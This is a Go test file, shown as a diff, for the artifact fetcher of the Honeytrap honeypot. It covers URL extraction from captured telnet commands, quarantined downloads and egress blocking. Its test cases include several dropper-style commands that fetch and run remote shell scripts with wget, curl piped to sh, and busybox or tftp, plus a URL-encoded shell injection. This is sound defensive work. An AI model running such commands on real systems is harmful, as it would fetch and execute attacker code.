@@ -0,0 +1,355 @@
+/*
+* Honeytrap
+* Copyright (C) 2016-2017 DutchSec (https://dutchsec.com/)
+*
+* This program is free software; you can redistribute it and/or modify it under
+* the terms of the GNU Affero General Public License version 3 as published by the
+* Free Software Foundation.
+*
+* This program is distributed in the hope that it will be useful, but WITHOUT
+* ANY WARRANTY; without even the implied warranty of MERCHANTABILITY or FITNESS
+* FOR A PARTICULAR PURPOSE.  See the GNU Affero General Public License for more
+* details.
+*
+* You should have received a copy of the GNU Affero General Public License
+* version 3 along with this program in the file "LICENSE".  If not, see
+* <http://www.gnu.org/licenses/agpl-3.0.txt>.
+*
+* See https://honeytrap.io/ for more details. All requests should be sent to
+* licensing@honeytrap.io
+*
+* The interactive user interfaces in modified source and object code versions
+* of this program must display Appropriate Legal Notices, as required under
+* Section 5 of the GNU Affero General Public License version 3.
+*
+* In accordance with Section 7(b) of the GNU Affero General Public License version 3,
+* these Appropriate Legal Notices must retain the display of the "Powered by
+* Honeytrap" logo and retain the original copyright notice. If the display of the
+* logo is not reasonably feasible for technical reasons, the Appropriate Legal Notices
+* must display the words "Powered by Honeytrap" and retain the original copyright notice.
+ */
+package fetcher
+
+import (
+	"fmt"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/honeytrap/honeytrap/config"
+	"github.com/honeytrap/honeytrap/event"
+	"github.com/honeytrap/honeytrap/pushers"
+)
+
+func TestExtract(t *testing.T) {
+	tests := []struct {
+		s        string
+		expected []string
+	}{
+		{
+			s:        "cd /tmp; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh",
+			expected: []string{"http://192.0.2.1/bins.sh"},
+		},
+		{
+			s:        "curl -s -o x https://example.com:8443/a/b?c=d|sh",
+			expected: []string{"https://example.com:8443/a/b?c=d"},
+		},
+		{
+			s:        "busybox wget 192.0.2.1:8080/mips -O- > m; tftp -g -r x 192.0.2.2",
+			expected: []string{"http://192.0.2.1:8080/mips"},
+		},
+		{
+			s:        "/shell?cd+/tmp;wget+http%3A%2F%2F192.0.2.1%2Fx.sh;sh+x.sh",
+			expected: []string{"http://192.0.2.1/x.sh"},
+		},
+		{
+			s:        "echo 'see http://example.com/a.' `curl \"http://example.com/b\"`",
+			expected: []string{"http://example.com/a", "http://example.com/b"},
+		},
+		{
+			s:        "uname -a; cat /proc/cpuinfo; wget -h",
+			expected: []string{},
+		},
+	}
+
+	for _, test := range tests {
+		if urls := Extract(test.s); !reflect.DeepEqual(urls, test.expected) {
+			t.Errorf("%s: expected %v, got %v", test.s, test.expected, urls)
+		}
+	}
+}
+
+type collector struct {
+	pushers.Recorder
+
+	n int
+}
+
+func (c *collector) next(t *testing.T) event.Event {
+	events, ok := c.Wait(c.n+1, 5*time.Second)
+	if !ok {
+		t.Fatal("expected event")
+	}
+
+	c.n++
+	return events[c.n-1]
+}
+
+func newFetcher(t *testing.T, options ...func(*Fetcher) error) (*Fetcher, *collector, func()) {
+	dir, err := ioutil.TempDir("", "quarantine")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	c := &collector{}
+
+	f, err := New(append([]func(*Fetcher) error{WithPath(dir), WithChannel(c)}, options...)...)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if err := f.Start(); err != nil {
+		t.Fatal(err)
+	}
+
+	return f, c, func() {
+		os.RemoveAll(dir)
+	}
+}
+
+func allowLoopback(f *Fetcher) error {
+	f.AllowNetworks = []string{"127.0.0.1/32"}
+	return nil
+}
+
+func command(s string) event.Event {
+	return event.New(
+		event.Category("telnet"),
+		event.Custom("session-id", "session"),
+		event.Custom("source-ip", "192.0.2.1"),
+		event.Custom("telnet.command", s),
+	)
+}
+
+func TestFetch(t *testing.T) {
+	var hits int32
+
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		atomic.AddInt32(&hits, 1)
+
+		if r.Header.Get("User-Agent") != "Wget/1.19.4 (linux-gnu)" {
+			t.Errorf("unexpected user agent %s", r.Header.Get("User-Agent"))
+		}
+
+		switch r.URL.Path {
+		case "/bins.sh":
+			fmt.Fprint(w, "#!/bin/sh\n")
+		case "/redirect":
+			http.Redirect(w, r, "/bins.sh", http.StatusFound)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer srv.Close()
+
+	f, c, cleanup := newFetcher(t, allowLoopback)
+	defer cleanup()
+
+	e := command(fmt.Sprintf("cd /tmp; wget %s/bins.sh; sh bins.sh", srv.URL))
+	f.Send(e)
+
+	fe := c.next(t)
+	if fe.Get("type") != "FETCH:COMPLETED" || fe.Get("fetcher.url") != srv.URL+"/bins.sh" {
+		t.Fatalf("unexpected event %s %s %s", fe.Get("type"), fe.Get("fetcher.url"), fe.Get("fetcher.error"))
+	}
+
+	sum := fe.Get("fetcher.sha256")
+	if sum != "a8076d3d28d21e02012b20eaf7dbf75409a6277134439025f282e368e3305abf" {
+		t.Errorf("unexpected sha256 %s", sum)
+	}
+
+	if fe.Get("fetcher.event-id") != e.Get("event-id") || fe.Get("session-id") != "session" || fe.Get("source-ip") != "192.0.2.1" {
+		t.Errorf("unexpected event %s %s %s", fe.Get("fetcher.event-id"), fe.Get("session-id"), fe.Get("source-ip"))
+	}
+
+	data, err := ioutil.ReadFile(filepath.Join(f.Dir(), sum[:2], sum))
+	if err != nil {
+		t.Fatal(err)
+	} else if string(data) != "#!/bin/sh\n" {
+		t.Errorf("unexpected contents %q", data)
+	}
+
+	a, err := f.Store().Get(sum)
+	if err != nil {
+		t.Fatal(err)
+	} else if a.Sources[0].URL != srv.URL+"/bins.sh" || a.Sources[0].Service != "telnet" || a.Sources[0].Filename != "bins.sh" {
+		t.Errorf("unexpected source %+v", a.Sources[0])
+	}
+
+	// fetched within the refetch interval
+	f.Send(e)
+
+	f.Send(command(fmt.Sprintf("wget %s/redirect", srv.URL)))
+
+	fe = c.next(t)
+	if fe.Get("type") != "FETCH:COMPLETED" || fe.Get("fetcher.final-url") != srv.URL+"/bins.sh" || fe.Get("fetcher.sha256") != sum {
+		t.Errorf("unexpected event %s %s %s", fe.Get("type"), fe.Get("fetcher.final-url"), fe.Get("fetcher.error"))
+	}
+
+	if v, _ := fe.Load("fetcher.count"); v != 2 {
+		t.Errorf("expected count 2, got %v", v)
+	}
+
+	f.Send(command(fmt.Sprintf("wget %s/missing", srv.URL)))
+
+	fe = c.next(t)
+	if fe.Get("type") != "FETCH:FAILED" || fe.Get("fetcher.error") != "404 Not Found" {
+		t.Errorf("unexpected event %s %s", fe.Get("type"), fe.Get("fetcher.error"))
+	}
+
+	if n := atomic.LoadInt32(&hits); n != 4 {
+		t.Errorf("expected 4 requests, got %d", n)
+	}
+}
+
+func TestBlocked(t *testing.T) {
+	var hits int32
+
+	var srv *httptest.Server
+	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		atomic.AddInt32(&hits, 1)
+
+		// 127.0.0.2 is not allowed
+		http.Redirect(w, r, strings.Replace(srv.URL, "127.0.0.1", "127.0.0.2", 1)+"/x", http.StatusFound)
+	}))
+	defer srv.Close()
+
+	// loopback addresses are blocked by default
+	f, c, cleanup := newFetcher(t)
+	defer cleanup()
+
+	f.Send(command("wget " + srv.URL + "/x"))
+
+	if fe := c.next(t); fe.Get("type") != "FETCH:FAILED" || !strings.Contains(fe.Get("fetcher.error"), "127.0.0.1 is blocked") {
+		t.Errorf("unexpected event %s %s", fe.Get("type"), fe.Get("fetcher.error"))
+	}
+
+	if n := atomic.LoadInt32(&hits); n != 0 {
+		t.Errorf("expected no requests, got %d", n)
+	}
+
+	// redirects to blocked addresses are refused
+	f, c, cleanup = newFetcher(t, allowLoopback)
+	defer cleanup()
+
+	f.Send(command("wget " + srv.URL + "/redirect"))
+
+	if fe := c.next(t); fe.Get("type") != "FETCH:FAILED" || !strings.Contains(fe.Get("fetcher.error"), "127.0.0.2 is blocked") {
+		t.Errorf("unexpected event %s %s", fe.Get("type"), fe.Get("fetcher.error"))
+	}
+
+	if n := atomic.LoadInt32(&hits); n != 1 {
+		t.Errorf("expected 1 request, got %d", n)
+	}
+}
+
+func TestBlockedNetworks(t *testing.T) {
+	e, err := newEgress("", nil, time.Second)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for ip, blocked := range map[string]bool{
+		"8.8.8.8":          false,
+		"2001:4860::8888":  false,
+		"10.1.2.3":         true,
+		"::ffff:127.0.0.1": true,
+		"64:ff9b::7f00:1":  true,
+		"192.0.2.1":        true,
+		"198.51.100.1":     true,
+		"203.0.113.1":      true,
+		"2001:db8::1":      true,
+	} {
+		if e.blocked(net.ParseIP(ip)) != blocked {
+			t.Errorf("expected %s blocked %t", ip, blocked)
+		}
+	}
+}
+
+func TestFirst(t *testing.T) {
+	f, _, cleanup := newFetcher(t)
+	defer cleanup()
+
+	if !f.first("http://example.com/0") || f.first("http://example.com/0") {
+		t.Fatal("expected url to be fetched once")
+	}
+
+	for i := 1; i <= maxSeen; i++ {
+		f.first(fmt.Sprintf("http://example.com/%d", i))
+	}
+
+	if len(f.seen) != maxSeen || f.recent.Len() != maxSeen {
+		t.Errorf("expected %d seen urls, got %d", maxSeen, len(f.seen))
+	}
+
+	// the least recently seen url is forgotten
+	if !f.first("http://example.com/0") {
+		t.Error("expected forgotten url to be fetched")
+	}
+
+	if f.first(fmt.Sprintf("http://example.com/%d", maxSeen)) {
+		t.Error("expected recent url not to be fetched")
+	}
+}
+
+func TestLimits(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/large":
+			fmt.Fprint(w, strings.Repeat("x", 100))
+		case "/slow":
+			time.Sleep(time.Second)
+			fmt.Fprint(w, "x")
+		}
+	}))
+	defer srv.Close()
+
+	f, c, cleanup := newFetcher(t, allowLoopback, func(f *Fetcher) error {
+		f.MaxSize = 10
+		f.Timeout = config.Delay(200 * time.Millisecond)
+		return nil
+	})
+	defer cleanup()
+
+	f.Send(command("wget " + srv.URL + "/large"))
+
+	if fe := c.next(t); fe.Get("type") != "FETCH:FAILED" || fe.Get("fetcher.error") != "artifact exceeds maximum size" {
+		t.Errorf("unexpected event %s %s", fe.Get("type"), fe.Get("fetcher.error"))
+	}
+
+	f.Send(command("wget " + srv.URL + "/slow"))
+
+	if fe := c.next(t); fe.Get("type") != "FETCH:FAILED" || !strings.Contains(fe.Get("fetcher.error"), "Timeout") {
+		t.Errorf("unexpected event %s %s", fe.Get("type"), fe.Get("fetcher.error"))
+	}
+}
+
+func TestInvalidConfig(t *testing.T) {
+	for _, fn := range []func(*Fetcher) error{
+		func(f *Fetcher) error { f.Proxy = "http://127.0.0.1:8080"; return nil },
+		func(f *Fetcher) error { f.AllowNetworks = []string{"10.0.0.1"}; return nil },
+		func(f *Fetcher) error { f.Workers = 0; return nil },
+	} {
+		if _, err := New(fn); err == nil {
+			t.Error("expected error")
+		}
+	}
+}